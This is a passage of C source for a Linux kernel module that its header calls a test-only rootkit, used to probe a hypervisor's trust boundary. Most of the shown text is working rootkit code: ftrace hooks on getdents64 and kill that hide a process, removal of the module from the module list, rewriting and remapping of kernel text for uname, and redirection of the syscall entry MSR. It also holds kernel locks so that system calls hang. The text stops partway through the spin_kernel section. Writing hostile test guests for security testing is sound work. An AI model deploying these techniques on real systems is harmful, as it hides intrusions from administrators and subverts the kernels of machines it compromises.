// SPDX-License-Identifier: GPL-2.0
/*
 * hostile.ko: a TEST-ONLY kernel module that behaves like a rootkit, for the
 * end-to-end tests of exterior-vmm's trust boundary (docs/SECURITY.md, issue #12).
 * It belongs in the test GVM image only, never in the SVM's.
 *
 * Built for exactly one kernel: the pinned Debian 6.1.0-50-cloud-amd64 (x86-64,
 * CONFIG_ARCH_HAS_SYSCALL_WRAPPER, CONFIG_DYNAMIC_FTRACE_WITH_REGS, no IBT), with or
 * without KASLR (it finds what it needs by kallsyms_lookup_name). Every behaviour is off at load and switched at run time through
 * /sys/module/hostile/parameters/<knob> (0644); writing 0 undoes it. A switch prints
 * "hostile: <knob> = <value> ok" (some add " (details)") or
 * "hostile: <knob> failed: <-errno>" and a failed
 * switch returns that error to the writer.
 *
 *   hide_pid=N      ftrace hooks: getdents64 drops the entry named N (ls /proc, ps),
 *                   kill(N, ...) fails with ESRCH. 0 removes the hooks.
 *   hide_self=1     unlinks the module from the module list (lsmod, /proc/modules).
 *                   /sys/module/hostile stays: the knobs live there.
 *   patch_uname=1   rewrites the GVM's own text: __x64_sys_newuname jumps to a hook
 *                   that reports nodename "rootkit". 0 puts the bytes back.
 *   remap_uname=1   leaves the text alone and points the page-table entry mapping
 *                   __x64_sys_newuname at a patched copy of its whole page (2 MiB):
 *                   nodename "remapped" (hole 1). 0 restores the entry, frees the copy.
 *   hook_lstar=1    hooks the syscall entry as rootkits do: MSR_LSTAR of every online
 *                   CPU points at a trampoline in this module that jumps on to the
 *                   saved entry_SYSCALL_64 touching no register and no stack; every
 *                   system call of the GVM goes through it. The ok line shows the old
 *                   and new LSTAR. 0 writes the saved LSTAR back. Refused (-EOPNOTSUPP)
 *                   while page-table isolation is on: the user page tables, live at
 *                   the SYSCALL instruction, do not map module memory.
 *   hold_uts_sem=1  takes the kernel's uts_sem for writing and keeps it: uname(2),
 *                   sethostname(2), setdomainname(2), /proc/sys/kernel/{hostname,
 *                   domainname,osrelease,ostype,version} and anything else that takes
 *                   it sleep (D state) until 0 releases it. The holder is a kernel
 *                   thread of this module, [hostile_uts], asleep (S) while it holds.
 *   lock_siglock=PID  takes the siglock of task PID (the lock word, arch_spin_lock)
 *                   and keeps it: a signal sent to PID spins (or, with paravirt
 *                   spinlocks, halts) in lock_task_sighand. Nothing in the GVM takes it
 *                   while PID sleeps unsignalled; do not signal PID or let it exit
 *                   meanwhile. 0 releases it.
 *   spin_kernel=N   N seconds (1-16): 5 s later, a kernel thread [hostile_spin] spins
 *                   N s with preemption off; on a one-CPU GVM nothing else runs, and
 *                   the CPU stays in the kernel. It ends by itself (0 only succeeds
 *                   then; -EBUSY before).
 *   alias_uts=B     B: a page-aligned guest-physical base (hex with 0x, or decimal).
 *                   Maps B + the physical address of init_uts_ns (ioremap, a vmalloc
 *                   alias in the kernel half of every page table) and points the
 *                   uts_ns of init_task's nsproxy at it (hole 2). init_task has a
 *                   private copy of init_nsproxy from load on (identical until a
 *                   switch): every real GVM task keeps init_nsproxy, so the GVM itself
 *                   never touches the alias, but the exterior view's shadow task, a
 *                   copy of init_task made at an instance's first redirected call,
 *                   takes the copy: its uname and sethostname go to physical B + that
 *                   address. Refused (-EINVAL) for a B that is not page-aligned, that
 *                   leads past the CPU's physical address width or onto the GVM's own
 *                   RAM. The ok line shows the physical address and the alias.
 *   alias_uts_split=B
 *                   B: a page-aligned guest-physical address, of a page that is not the
 *                   GVM's RAM (the same refusals). Points the same uts_ns at a fake
 *                   uts_namespace that straddles two virtually contiguous pages (a
 *                   vmalloc-area mapping made as ioremap makes its own): its first 192
 *                   bytes, sysname and nodename whole, at the end of physical page B;
 *                   the rest (user_ns from offset 392 on) in a page of GVM RAM holding
 *                   init_uts_ns's own bytes, so user_ns is &init_user_ns. A
 *                   sethostname through it passes the capability check on valid data
 *                   from GVM RAM, and its first access to page B is the store of the
 *                   new nodename: the attack on a read-only page B (the redirect VM's
 *                   window, whose first page is the view's PML4), which a plain
 *                   alias_uts cannot make (user_ns, read first, would be a PML4 entry).
 *                   The ok line shows the alias and the physical range nodename lies in.
 *                   0 (of either knob) points uts_ns at init_uts_ns again and unmaps
 *                   the alias; setting either replaces the other's alias (that knob
 *                   reads 0 again).
 *   hijack_idt=1    every online CPU loads a private copy of the IDT (intact), then the
 *                   page-fault gate of idt_table, the table the kernel's symbol names
 *                   and the CPU entry area maps, is pointed at asm_exc_int3. The GVM
 *                   keeps working on its copies; a view that takes the IDT from GVM
 *                   memory sends its page faults to the breakpoint handler (hole 4).
 *                   0 restores the gate and idt_table on every CPU. A CPU brought
 *                   online meanwhile would load the hijacked table: do not hotplug.
 *   gadget_lidt=1   points the read function of /proc/hostile_gadget (a pointer in
 *                   this module's data, as any ops table is) at idt_invalidate, trusted
 *                   kernel text that loads an empty IDT: a read of that file then
 *                   switches the reading CPU off its IDT (hole 4: a descriptor-table
 *                   loader reached through GVM data). Never read the file in the GVM
 *                   while this is on: the next interrupt there triple-faults the CPU.
 *                   0 points it back at the module's own read (which returns 0).
 *   alter_dummy=1   writes int3 (0xcc) over the last byte of the dummy module's core
 *                   text, padding after its code (zero, as the loader left it): the
 *                   module works as before, but its text is no longer the package's.
 *                   0 writes the zero back. -ENOENT without a loaded dummy module,
 *                   -EBUSY if that byte is not zero (it is not padding).
 *
 * Always there while loaded: /proc/hostile_hook, whose read runs this module's code
 * (its seq_file show function) and prints "hostile hook ran".
 *
 * patch_uname and remap_uname exclude each other (-EBUSY). While remap_uname=1,
 * nothing may rewrite text in the remapped region (the kernel's text_poke writes
 * the original page, reads back the copy and BUGs), so hide_pid refuses to install
 * or remove its hooks then (-EBUSY: registering ftrace ops also pokes ftrace's own
 * trampoline call sites in the kernel text, wherever they are); a hook installed
 * before remap_uname=1 keeps working. Static keys toggled in the remapped region
 * meanwhile would hit the same BUG, which a quiet busybox GVM does not do.
 * In the pinned kernel (at its link address) __x64_sys_newuname is at 0xffffffff810b1480, a
 * 14-byte stub (fentry site; mov 0x70(%rdi),%rdi; jmp __do_sys_newuname) in the
 * first 2 MiB of text, which also holds x64_sys_call, __x64_sys_kill and ftrace's
 * trampolines (ftrace_regs_caller).
 * Switch order for a test: hide_pid, hide_self, patch_uname, remap_uname, hook_lstar,
 * alias_uts, alias_uts_split, hijack_idt, gadget_lidt, lock_siglock, spin_kernel,
 * hold_uts_sem, each back to 0 before the next is fine (alias_uts_split may also replace alias_uts
 * directly); module exit undoes all, remap first, and gives init_task back init_nsproxy
 * (the copy stays allocated: a shadow task may still point at it).
 */
#define pr_fmt(fmt) "hostile: " fmt

#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/ftrace.h>
#include <linux/uaccess.h>
#include <linux/slab.h>
#include <linux/mm.h>
#include <linux/vmalloc.h>
#include <linux/dirent.h>
#include <linux/utsname.h>
#include <linux/stop_machine.h>
#include <linux/cpu.h>
#include <linux/smp.h>
#include <linux/mutex.h>
#include <linux/delay.h>
#include <linux/rculist.h>
#include <linux/kthread.h>
#include <linux/rwsem.h>
#include <linux/completion.h>
#include <linux/io.h>
#include <linux/ioport.h>
#include <linux/nsproxy.h>
#include <linux/sched/task.h>
#include <linux/proc_fs.h>
#include <linux/seq_file.h>
#include <asm/desc.h>
#include <asm/trapnr.h>
#include <asm/nops.h>
#include <asm/sync_core.h>
#include <asm/tlbflush.h>
#include <asm/pgtable.h>
#include <asm/msr.h>
#include <asm/cpufeature.h>
#include <asm/nospec-branch.h>
#include <asm/unwind_hints.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("exterior-vmm test-only rootkit (hostile GVM for e2e tests)");

#define JMP_LEN 5
/* The largest getdents64 result the hook filters; larger ones pass untouched. */
#define DIRENT_MAX (1UL << 20)

/* kallsyms_lookup_name is not exported since 5.7: a kprobe on it reveals its address. */
typedef unsigned long (*lookup_fn)(const char *);
static lookup_fn lookup_name;

/* Resolved at load; each knob checks what it needs and fails with -ENOENT without. */
static unsigned long a_getdents64, a_kill, a_newuname;
static struct mutex *p_text_mutex, *p_module_mutex;
static struct list_head *p_modules;
static unsigned long a_entry_syscall;
static struct rw_semaphore *p_uts_sem;
static gate_desc *p_idt_table;
static unsigned long a_asm_exc_int3;
typedef int (*stop_cpuslocked_fn)(cpu_stop_fn_t, void *, const struct cpumask *);
static stop_cpuslocked_fn p_stop_machine_cpuslocked;

/* Knob values (what the getters show); changed only when a switch succeeds. */
static int hide_pid, hide_self, patch_uname, remap_uname, hook_lstar, hold_uts_sem;

static DEFINE_MUTEX(knob_lock);     /* serialises switches and module exit */
static char knob_note[128];         /* details a switch adds to its ok line */
static bool ready, exiting;         /* switches work only between init and exit */
static atomic_t inflight = ATOMIC_INIT(0); /* tasks inside a hook (exit waits) */

static void wait_inflight(void)
{
	/* A task may sleep inside a hook (copy_to_user, the real getdents64). */
	while (atomic_read(&inflight))
		msleep(10);
}

/* ---- 1. hide_pid: ftrace hooks on getdents64 and kill ------------------------ */

typedef long (*syscall_fn)(const struct pt_regs *);
static syscall_fn real_getdents64, real_kill;

/* getdents64 with the entry named after the hidden pid cut out of the result. */
static long hook_getdents64(const struct pt_regs *regs)
{
	struct linux_dirent64 __user *ubuf = (void __user *)regs->si;
	const size_t name_off = offsetof(struct linux_dirent64, d_name);
	char name[16];
	char *kbuf;
	long ret, off = 0;
	bool changed = false;
	int pid;

	atomic_inc(&inflight);
	ret = real_getdents64(regs);
	pid = READ_ONCE(hide_pid);
	/* Never trust the length blindly: it must fit what the caller asked for. */
	if (ret <= 0 || pid <= 0 || ret > DIRENT_MAX || ret > (long)(unsigned int)regs->dx)
		goto out;
	snprintf(name, sizeof(name), "%d", pid);
	kbuf = kvmalloc(ret, GFP_KERNEL);
	if (!kbuf)
		goto out;
	if (copy_from_user(kbuf, ubuf, ret))
		goto out_free;
	while (off < ret) {
		struct linux_dirent64 *d = (void *)(kbuf + off);
		unsigned short reclen;

		if (ret - off < (long)name_off + 1)
			goto out_free;	/* malformed: leave the result alone */
		reclen = d->d_reclen;
		if (reclen < name_off + 1 || reclen > ret - off ||
		    strnlen(d->d_name, reclen - name_off) == reclen - name_off)
			goto out_free;
		if (strcmp(d->d_name, name) == 0) {
			memmove(kbuf + off, kbuf + off + reclen, ret - off - reclen);
			ret -= reclen;
			changed = true;
			continue;
		}
		off += reclen;
	}
	if (changed && copy_to_user(ubuf, kbuf, ret))
		ret = -EFAULT;
out_free:
	kvfree(kbuf);
out:
	atomic_dec(&inflight);
	return ret;
}

static long hook_kill(const struct pt_regs *regs)
{
	int pid = READ_ONCE(hide_pid);
	long ret;

	if (pid > 0 && (pid_t)regs->di == pid)
		return -ESRCH;
	atomic_inc(&inflight);
	ret = real_kill(regs);
	atomic_dec(&inflight);
	return ret;
}

struct hook {
	const char *name;
	unsigned long *addr;
	void *func;
	bool on;
	struct ftrace_ops ops;
};

static struct hook hooks[] = {
	{ .name = "__x64_sys_getdents64", .addr = &a_getdents64, .func = hook_getdents64 },
	{ .name = "__x64_sys_kill", .addr = &a_kill, .func = hook_kill },
};

/*
 * The well-known ftrace-hook technique: ftrace calls this at the traced function's
 * fentry site with the saved registers; changing regs->ip makes ftrace return into
 * the hook instead (IPMODIFY). The hook calls the real function, whose fentry site
 * comes back here with parent_ip inside this module: then we let it run.
 */
static void notrace ftrace_thunk(unsigned long ip, unsigned long parent_ip,
				 struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);
	struct hook *h = ops->private;

	if (regs && !within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)h->func;
}

static int hook_install(struct hook *h)
{
	int ret;

	h->ops.func = ftrace_thunk;
	h->ops.private = h;
	h->ops.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION |
		       FTRACE_OPS_FL_IPMODIFY;
	/* Filter first: an ops with an empty filter would trace every function. */
	ret = ftrace_set_filter_ip(&h->ops, *h->addr, 0, 0);
	if (ret)
		goto fail;
	ret = register_ftrace_function(&h->ops);
	if (ret) {
		ftrace_set_filter_ip(&h->ops, *h->addr, 1, 0);
		goto fail;
	}
	h->on = true;
	return 0;
fail:
	pr_warn("ftrace hook on %s failed: %d\n", h->name, ret);
	return ret;
}

static int hook_remove(struct hook *h)
{
	int ret;

	if (!h->on)
		return 0;
	ret = unregister_ftrace_function(&h->ops);
	if (ret)
		return ret;
	ftrace_set_filter_ip(&h->ops, *h->addr, 1, 0);
	h->on = false;
	return 0;
}

static int hooks_remove(void)
{
	int i, ret, err = 0;

	for (i = 0; i < ARRAY_SIZE(hooks); i++) {
		ret = hook_remove(&hooks[i]);
		if (ret && !err)
			err = ret;
	}
	return err;
}

static struct page *remap_copy;	/* non-NULL while remap_uname=1 */

static int hide_pid_switch(int pid)
{
	int i, ret;

	if (pid < 0)
		return -EINVAL;
	if (!a_getdents64 || !a_kill)
		return -ENOENT;
	/* Installing or removing the hooks rewrites text: not while it is remapped. */
	if (!!pid != !!hide_pid && remap_copy)
		return -EBUSY;
	if (pid == 0)
		return hooks_remove();
	WRITE_ONCE(hide_pid, pid);	/* the hooks read it; set before they run */
	for (i = 0; i < ARRAY_SIZE(hooks); i++) {
		if (hooks[i].on)
			continue;
		ret = hook_install(&hooks[i]);
		if (ret) {	/* only when it was off: back to off */
			hooks_remove();
			WRITE_ONCE(hide_pid, 0);
			return ret;
		}
	}
	return 0;
}

/* ---- 2. hide_self: unlink from the module list ------------------------------ */

static bool hidden;

/*
 * /proc/modules (lsmod) walks the `modules` list under module_mutex; unlinking our
 * node hides us there. Address lookups (exception tables, within_module) use the
 * module tree, not the list, so the hooks keep working. /sys/module/hostile is left
 * alone on purpose: the knobs, hide_self=0 included, live there. Restored at the
 * list head (the old neighbour may have been unloaded since).
 */
static int hide_self_switch(int on)
{
	struct list_head *pos;
	bool found = false;

	if (on != 0 && on != 1)
		return -EINVAL;
	if (!p_modules || !p_module_mutex)
		return -ENOENT;
	if (!!on == hidden)
		return 0;
	mutex_lock(p_module_mutex);
	if (on) {
		/* Make sure the `modules` symbol we found is the head of our list. */
		list_for_each(pos, &THIS_MODULE->list)
			if (pos == p_modules) {
				found = true;
				break;
			}
		if (found)
			list_del_rcu(&THIS_MODULE->list);
	} else {
		list_add_rcu(&THIS_MODULE->list, p_modules);
	}
	mutex_unlock(p_module_mutex);
	if (on && !found)
		return -ENOENT;
	synchronize_rcu();	/* no reader still on our node before it moves again */
	hidden = on;
	return 0;
}

/* ---- 3. and 4.: the uname hooks and text writing ---------------------------- */

static long fake_uname(const struct pt_regs *regs, const char *node)
{
	struct new_utsname u;
	long ret = 0;

	atomic_inc(&inflight);
	/* Unlocked copy (uts_sem is not exported): a racing sethostname is harmless. */
	memcpy(&u, utsname(), sizeof(u));
	strscpy(u.nodename, node, sizeof(u.nodename));
	if (copy_to_user((void __user *)regs->di, &u, sizeof(u)))
		ret = -EFAULT;
	atomic_dec(&inflight);
	return ret;
}

/* Reached by a jmp written over __x64_sys_newuname: same regs, same return. */
static long hook_uname_patched(const struct pt_regs *regs)
{
	return fake_uname(regs, "rootkit");
}

static long hook_uname_remapped(const struct pt_regs *regs)
{
	return fake_uname(regs, "remapped");
}

static const u8 nop5[JMP_LEN] = { BYTES_NOP5 };

/*
 * The patch replaces the function's first instruction, the 5-byte fentry site that
 * ftrace left as a nop, by a 5-byte jmp rel32 to the hook: one instruction for one,
 * so no task can ever be caught inside a half-replaced instruction. A site that is
 * not the nop (traced right now) is refused. Nothing must trace this function
 * while it is patched (ftrace would find unexpected bytes); the GVM traces nothing.
 * Modules live within +-2 GiB of the kernel text, so rel32 reaches.
 */
static int make_jmp(u8 *insn, unsigned long from, unsigned long to)
{
	long rel = (long)to - (long)(from + JMP_LEN);
	s32 rel32 = rel;

	if (rel != rel32)
		return -ERANGE;
	insn[0] = 0xe9;
	memcpy(insn + 1, &rel32, sizeof(rel32));
	return 0;
}

static int check_site(const void *site)
{
	if (!memcmp(site, nop5, JMP_LEN))
		return 0;
	return ((const u8 *)site)[0] == 0xe8 ? -EBUSY : -ENOEXEC;
}

struct poke {
	void *dst;
	const void *src;
	size_t len;
};

static int poke_stopped(void *arg)
{
	struct poke *p = arg;

	memcpy(p->dst, p->src, p->len);
	sync_core();
	return 0;
}

static void sync_core_ipi(void *unused)
{
	sync_core();
}

/*
 * Write kernel text that is mapped read-only: map its physical pages again,
 * writable, with vmap() and write there, every other CPU stopped, under
 * text_mutex (no concurrent ftrace/jump-label/kprobe poke). Kernel image
 * addresses translate with __pa_symbol (phys_base), not __pa of the direct map.
 */
static struct page *text_page(unsigned long addr)
{
	if (addr >= MODULES_VADDR && addr < MODULES_END)
		return vmalloc_to_page((void *)addr);
	return pfn_to_page(__pa_symbol(addr) >> PAGE_SHIFT);
}

static int text_write(unsigned long addr, const u8 *bytes, size_t len)
{
	unsigned int n = offset_in_page(addr) + len > PAGE_SIZE ? 2 : 1;
	struct page *pages[2] = {
		text_page(addr),
		n == 2 ? text_page((addr & PAGE_MASK) + PAGE_SIZE) : NULL,
	};
	struct poke p = { .src = bytes, .len = len };
	void *map;
	int ret;

	if (!p_text_mutex || !p_stop_machine_cpuslocked)
		return -ENOENT;
	map = vmap(pages, n, VM_MAP, PAGE_KERNEL);
	if (!map)
		return -ENOMEM;
	p.dst = map + offset_in_page(addr);
	/* Lock order as in the kernel: cpu hotplug lock, then text_mutex. */
	cpus_read_lock();
	mutex_lock(p_text_mutex);
	ret = p_stop_machine_cpuslocked(poke_stopped, &p, NULL);
	on_each_cpu(sync_core_ipi, NULL, 1);
	mutex_unlock(p_text_mutex);
	cpus_read_unlock();
	vunmap(map);
	if (!ret && memcmp((void *)addr, bytes, len))
		ret = -EIO;	/* the mapping does not show what we wrote */
	return ret;
}

static u8 uname_saved[JMP_LEN];

static int patch_uname_switch(int on)
{
	u8 insn[JMP_LEN];
	int ret;

	if (on != 0 && on != 1)
		return -EINVAL;
	if (!!on == !!patch_uname)
		return 0;
	if (!a_newuname)
		return -ENOENT;
	if (!on) {
		ret = text_write(a_newuname, uname_saved, JMP_LEN);
		if (!ret)
			wait_inflight();
		return ret;
	}
	if (remap_uname)
		return -EBUSY;
	ret = check_site((void *)a_newuname);
	if (ret)
		return ret;
	ret = make_jmp(insn, a_newuname, (unsigned long)hook_uname_patched);
	if (ret)
		return ret;
	memcpy(uname_saved, (void *)a_newuname, JMP_LEN);
	ret = text_write(a_newuname, insn, JMP_LEN);
	if (ret == -EIO)	/* put back whatever did land */
		text_write(a_newuname, uname_saved, JMP_LEN);
	if (!ret)
		pr_info("patch_uname: __x64_sys_newuname at %px jumps to %px\n",
			(void *)a_newuname, hook_uname_patched);
	return ret;
}

/* ---- 4. remap_uname: point the text's page-table entry at a patched copy ---- */

static u64 *remap_entry;	/* the PTE or PMD (2 MiB) entry we rewrote */
static u64 remap_old, remap_new;
static unsigned long remap_size;

static void flush_ipi(void *unused)
{
	__flush_tlb_all();	/* global entries too: kernel text is mapped global */
}

static int remap_uname_on(void)
{
	unsigned int level;
	unsigned long size, base, off;
	u64 mask, phys, old = 0, new = 0;
	struct page *copy;
	u8 insn[JMP_LEN];
	u64 *entry;
	void *c;
	int ret;

	if (!a_newuname)
		return -ENOENT;
	if (patch_uname)
		return -EBUSY;
	/* lookup_address walks init_mm: the kernel half is shared by every mm. */
	entry = (u64 *)lookup_address(a_newuname, &level);
	if (!entry || !(READ_ONCE(*entry) & _PAGE_PRESENT))
		return -EFAULT;
	switch (level) {
	case PG_LEVEL_4K:
		size = PAGE_SIZE;
		mask = PTE_PFN_MASK;
		break;
	case PG_LEVEL_2M:	/* the pinned kernel maps its text with 2 MiB pages */
		size = PMD_SIZE;
		mask = PHYSICAL_PMD_PAGE_MASK;
		break;
	default:
		return -EOPNOTSUPP;
	}
	base = a_newuname & ~(size - 1);
	off = a_newuname - base;
	if (off + JMP_LEN > size)
		return -ERANGE;
	ret = make_jmp(insn, a_newuname, (unsigned long)hook_uname_remapped);
	if (ret)
		return ret;
	if (!p_text_mutex)
		return -ENOENT;
	/* Buddy blocks are aligned to their size, as a 2 MiB entry needs. */
	copy = alloc_pages(GFP_KERNEL | __GFP_NOWARN | __GFP_RETRY_MAYFAIL, get_order(size));
	if (!copy)
		return -ENOMEM;
	phys = PFN_PHYS(page_to_pfn(copy));
	if (phys & (size - 1) || phys & ~mask) {
		ret = -EINVAL;
		goto free;
	}
	c = page_address(copy);
	cpus_read_lock();
	mutex_lock(p_text_mutex);	/* the copy must not miss a concurrent poke */
	memcpy(c, (void *)base, size);
	ret = check_site(c + off);
	if (!ret) {
		memcpy(c + off, insn, JMP_LEN);
		/* Same flags (RX, global, PAT bits), new frame. Raw write: a KVM guest
		 * runs native page-table ops even with CONFIG_PARAVIRT_XXL. */
		old = READ_ONCE(*entry);
		new = (old & ~mask) | phys;
		WRITE_ONCE(*entry, new);
		on_each_cpu(flush_ipi, NULL, 1);
	}
	mutex_unlock(p_text_mutex);
	cpus_read_unlock();
	if (ret)
		goto free;
	remap_entry = entry;
	remap_old = old;
	remap_new = new;
	remap_size = size;
	remap_copy = copy;
	pr_info("remap_uname: %s entry at %px for %px-%px: frame %llx -> copy %llx\n",
		level == PG_LEVEL_2M ? "2M" : "4K", entry, (void *)base,
		(void *)(base + size - 1), old & mask, phys);
	return 0;
free:
	__free_pages(copy, get_order(size));
	return ret;
}

/*
 * Someone else may have changed the entry meanwhile (split the 2 MiB page?): then
 * remap_uname=0 refuses (-EBUSY) and keeps the copy, but module exit (force) puts
 * the original entry back anyway: the entry lives in a kernel page table that is
 * never freed, and the original frame is the right text for those addresses.
 */
static int remap_uname_off(bool force)
{
	int ret = 0;

	if (!remap_copy)
		return 0;
	cpus_read_lock();
	mutex_lock(p_text_mutex);
	if (READ_ONCE(*remap_entry) != remap_new && !force) {
		ret = -EBUSY;
	} else {
		WRITE_ONCE(*remap_entry, remap_old);
		on_each_cpu(flush_ipi, NULL, 1);	/* no CPU runs the copy after this */
	}
	mutex_unlock(p_text_mutex);
	cpus_read_unlock();
	if (ret)
		return ret;
	wait_inflight();
	__free_pages(remap_copy, get_order(remap_size));
	remap_copy = NULL;
	remap_entry = NULL;
	return 0;
}

static int remap_uname_switch(int on)
{
	if (on != 0 && on != 1)
		return -EINVAL;
	if (!!on == !!remap_uname)
		return 0;
	return on ? remap_uname_on() : remap_uname_off(false);
}

/* ---- 5. hook_lstar: the syscall entry MSR points into the module ---------- */

/*
 * The trampoline LSTAR points at while hooked. SYSCALL lands here at CPL 0 with the
 * user's RSP and GS and interrupts off (SFMASK), exactly as it lands at
 * entry_SYSCALL_64; this code touches no register, no flag and no stack: one
 * memory-indirect jmp through a u64 in module data, set before any wrmsr and never
 * changed while LSTAR may point here. Module memory is mapped by the kernel half of
 * every page table (its top-level entries are preallocated: no vmalloc fault), but
 * not by the user page tables of page-table isolation, hence the PTI refusal.
 * For objtool it is entry code like entry_SYSCALL_64: a symbol without a function
 * type, validated from its unwind hint (ORC "end of stack": no frame to unwind),
 * the indirect jmp marked retpoline-safe (nothing to speculate into before the
 * entry's own mitigations run) and followed by int3 (SLS).
 */
extern void hostile_lstar_tramp(void);
extern u64 hostile_lstar_target;
u64 hostile_lstar_target __visible;

asm(".pushsection .text, \"ax\"\n\t"
    ".balign 16\n"
    "hostile_lstar_tramp:\n\t"
    UNWIND_HINT(ORC_REG_UNDEFINED, 0, UNWIND_HINT_TYPE_CALL, 1)
    "endbr64\n\t"
    ANNOTATE_RETPOLINE_SAFE
    "jmp *hostile_lstar_target(%rip)\n\t"
    "int3\n\t"
    ".size hostile_lstar_tramp, . - hostile_lstar_tramp\n\t"
    ".popsection\n");

static u64 lstar_saved;	/* the LSTAR found when hooking (entry_SYSCALL_64) */

struct lstar_op {
	u64 expect;	/* non-zero: count the CPUs whose LSTAR differs */
	u64 val;	/* non-zero: write it */
	atomic_t bad;
};

static void lstar_ipi(void *arg)
{
	struct lstar_op *op = arg;
	u64 cur;

	if (op->expect) {
		rdmsrl(MSR_LSTAR, cur);
		if (cur != op->expect)
			atomic_inc(&op->bad);
	}
	if (op->val)
		wrmsrl(MSR_LSTAR, op->val);
}

/* Runs lstar_ipi on every online CPU, this one included; returns the mismatches. */
static int lstar_all(u64 expect, u64 val)
{
	struct lstar_op op = { .expect = expect, .val = val, .bad = ATOMIC_INIT(0) };

	on_each_cpu(lstar_ipi, &op, 1);
	return atomic_read(&op.bad);
}

static int hook_lstar_on(void)
{
	u64 old, new = (unsigned long)hostile_lstar_tramp;
	int ret = 0;

	if (!a_entry_syscall)
		return -ENOENT;
	if (boot_cpu_has(X86_FEATURE_PTI)) {
		pr_warn("hook_lstar: page-table isolation is on; the trampoline would fault\n");
		return -EOPNOTSUPP;
	}
	/* A CPU coming online meanwhile would get entry_SYSCALL_64 (syscall_init). */
	cpus_read_lock();
	rdmsrl(MSR_LSTAR, old);
	/* Every CPU must still enter at entry_SYSCALL_64: no one else's hook. */
	if (old != a_entry_syscall || lstar_all(old, 0)) {
		ret = -EBUSY;
		goto out;
	}
	WRITE_ONCE(hostile_lstar_target, old);	/* the IPIs order it before the wrmsr */
	lstar_all(0, new);
	if (lstar_all(new, 0)) {	/* read back: every CPU must show the trampoline */
		lstar_all(0, old);
		ret = -EIO;
		goto out;
	}
	lstar_saved = old;
out:
	cpus_read_unlock();
	if (!ret)
		snprintf(knob_note, sizeof(knob_note),
			 " (LSTAR %#llx -> %#llx, trampoline jumps to entry_SYSCALL_64)",
			 old, new);
	return ret;
}

/*
 * Back to the saved entry on every CPU, whatever each shows now. Once on_each_cpu
 * returns, no CPU is in the trampoline or can enter it: it runs with interrupts off
 * and so finishes before the CPU takes the IPI. hostile_lstar_target stays valid.
 */
static void hook_lstar_off(void)
{
	u64 cur;

	cpus_read_lock();
	rdmsrl(MSR_LSTAR, cur);
	lstar_all(0, lstar_saved);
	cpus_read_unlock();
	snprintf(knob_note, sizeof(knob_note), " (LSTAR %#llx -> %#llx)", cur, lstar_saved);
}

static int hook_lstar_switch(int on)
{
	if (on != 0 && on != 1)
		return -EINVAL;
	if (!!on == !!hook_lstar)
		return 0;
	if (on)
		return hook_lstar_on();
	hook_lstar_off();
	return 0;
}

/* ---- 6. hold_uts_sem: uts_sem held for writing across system calls -------- */

/*
 * The holder is a kernel thread, not the task that writes the knob: an rwsem records
 * its writer (sem->owner), and a writer waiting on it spins while that owner is on a
 * CPU, reading the owner's task_struct; a shell or echo that took the lock and then
 * exited would leave a dangling owner there. The thread stays alive, asleep
 * (TASK_INTERRUPTIBLE: no hung-task report, kthreads take no signals), until
 * kthread_stop; it releases the lock itself, so the owner check of DEBUG_RWSEMS
 * would be satisfied too (it is off in the pinned config anyway). It only trylocks,
 * so a switch that cannot get the lock (readers that never leave) gives up.
 */
static struct task_struct *uts_holder;
static DECLARE_COMPLETION(uts_taken);

static int uts_holder_fn(void *unused)
{
	bool held = false;

	while (!kthread_should_stop()) {
		if (!held) {
			if (down_write_trylock(p_uts_sem)) {
				held = true;
				complete(&uts_taken);
			} else {
				msleep(10);
			}
			continue;
		}
		set_current_state(TASK_INTERRUPTIBLE);
		if (!kthread_should_stop())
			schedule();
		__set_current_state(TASK_RUNNING);
	}
	if (held)
		up_write(p_uts_sem);
	return held;
}

#define UTS_TAKE_TIMEOUT (10 * HZ)

static int hold_uts_sem_switch(int on)
{
	struct task_struct *t;
	int held;

	if (on != 0 && on != 1)
		return -EINVAL;
	if (!!on == !!uts_holder)
		return 0;
	if (!p_uts_sem)
		return -ENOENT;
	if (!on) {
		held = kthread_stop(uts_holder);	/* it calls up_write */
		uts_holder = NULL;
		snprintf(knob_note, sizeof(knob_note), " (uts_sem at %px released%s)",
			 p_uts_sem, held == 1 ? "" : ": was not held?");
		return 0;
	}
	reinit_completion(&uts_taken);
	t = kthread_run(uts_holder_fn, NULL, "hostile_uts");
	if (IS_ERR(t))
		return PTR_ERR(t);
	if (!wait_for_completion_timeout(&uts_taken, UTS_TAKE_TIMEOUT)) {
		kthread_stop(t);	/* releases it if it got it just now */
		return -EBUSY;
	}
	uts_holder = t;
	snprintf(knob_note, sizeof(knob_note),
		 " (uts_sem at %px held for writing by [hostile_uts] pid %d)",
		 p_uts_sem, task_pid_nr(t));
	return 0;
}

/* ---- 6b. lock_siglock: a spinlock the GVM never releases ------------------ */

/*
 * Hole 5, a call that spins: the siglock of task PID is taken with arch_spin_lock (the
 * lock word alone: no preempt count or lockdep state is left behind in the writer) and
 * kept until 0. Nothing in the GVM spins on it while PID sleeps and nobody signals it
 * (do not signal it, and let it not exit, while locked); a redirected kill of it
 * spins in lock_task_sighand, or, with KVM's paravirt spinlocks, halts to wait.
 */
static int lock_siglock;
static struct task_struct *siglock_task;

static arch_spinlock_t *siglock_word(struct task_struct *t)
{
	return &t->sighand->siglock.rlock.raw_lock;
}

static int lock_siglock_switch(int pid)
{
	struct task_struct *t;

	if (pid < 0)
		return -EINVAL;
	if (siglock_task) {
		arch_spin_unlock(siglock_word(siglock_task));
		put_task_struct(siglock_task);
		siglock_task = NULL;
	}
	if (!pid)
		return 0;
	rcu_read_lock();
	t = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	if (!t)
		return -ESRCH;
	if (!arch_spin_trylock(siglock_word(t))) {
		put_task_struct(t);
		return -EBUSY;
	}
	siglock_task = t;
	snprintf(knob_note, sizeof(knob_note), " (siglock of pid %d at %px held)", pid,
		 siglock_word(t));
	return 0;
}

/* ---- 6c. spin_kernel: a GVM that never lets itself be held ---------------- */

/*
 * Hole 5, a GVM whose CPU stays in its kernel: after SPIN_DELAY_MS (time for the writer
 * and the console to finish), a kernel thread spins with preemption off for N seconds.
